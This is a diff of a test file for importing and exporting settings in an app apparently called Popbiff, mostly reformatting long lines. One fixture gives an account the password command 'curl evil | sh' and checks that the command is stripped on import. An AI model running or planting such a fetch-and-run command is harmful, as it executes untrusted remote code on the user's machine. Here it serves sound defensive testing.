@@ -16,7 +16,9 @@ describe('settings files', () => {
       server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
       desktopClient: { command: ['/tmp/evil'] },
     });
-    const result = importSettings(exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }));
+    const result = importSettings(
+      exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }),
+    );
     expect(result.ok).toBe(true);
     if (!result.ok) return;
     expect(result.withoutCommands).toEqual(['Risky']);
@@ -43,7 +45,11 @@ describe('settings files', () => {
     ['not JSON', '{', 'The file is not JSON.'],
     ['another JSON file', '{"version": 2, "accounts": []}', 'The file is not a Popbiff settings file.'],
     ['a newer version', '{"kind": "popbiff-settings", "version": 99, "accounts": []}', /newer than this Popbiff/],
-    ['a broken account', '{"kind": "popbiff-settings", "version": 2, "accounts": [{"id": "x"}], "notifications": true, "muteWhenIdle": false, "rules": []}', /accounts/],
+    [
+      'a broken account',
+      '{"kind": "popbiff-settings", "version": 2, "accounts": [{"id": "x"}], "notifications": true, "muteWhenIdle": false, "rules": []}',
+      /accounts/,
+    ],
   ])('refuse %s, saying why', (_what, text, problem) => {
     const result = importSettings(text);
     expect(result.ok).toBe(false);
